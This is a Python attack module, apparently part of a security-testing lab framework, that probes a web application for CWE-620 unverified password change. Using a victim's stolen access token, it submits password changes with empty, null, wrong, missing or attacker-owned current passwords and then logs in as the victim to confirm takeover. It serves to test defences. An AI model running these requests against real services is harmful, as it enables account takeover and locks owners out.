"""Change the password of somebody whose access token you have.

Exploits a change that asks for nothing but the token. Then whoever has copied one for ten minutes
has the account for ever, and the owner is out.
Source: CWE-620 Unverified Password Change,
https://cwe.mitre.org/data/definitions/620.html
ASVS: 6.2.3
"""

from collections.abc import Iterator

import httpx

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, breakdown, got_in
from attacks.lab.target import Person, Target
from attacks.lab.ways_out import change_request, must_change_passwords


def tries(target: Target, victim: Person, new: str) -> Iterator[tuple[str, httpx.Request]]:
    """Put something where the current password belongs; last, the attacker's, with whose it is."""
    stolen, attacker = target.token_of(victim), target.attacker
    guesses = {"an empty one": "", "null": None, "the new one": new, "a wrong one": f"not-{new}"}
    for what, guess in guesses.items():
        body = {"current_password": guess, "new_password": new}
        yield what, change_request(target, stolen, body)
    yield "none", change_request(target, stolen, {"new_password": new})
    own: dict[str, str] = {"current_password": attacker.password, "new_password": new}
    yield "the attacker's", change_request(target, stolen, {**own, "username": attacker.username})
    names_the_victim = {**own, "username": victim.username}
    yield (
        "the attacker's, as attacker",
        change_request(target, target.token_of(attacker), names_the_victim),
    )


@attack()
def run(target: Target) -> Outcome:
    """Try each as the thief, and log in with the new password."""
    must_change_passwords(target)
    victim, new, answers = target.enrol(), Person().password, {}
    with target.as_thief() as thief:
        for current, request in tries(thief, victim, new):
            answers[current] = thief.http.send(request)
            if thief.log_in(victim.username, new).is_success:
                return got_in(f"as the current password, {current}: the account is the thief's")
    return breakdown(answers, f"{len(answers)} changes without the current password: none is made")
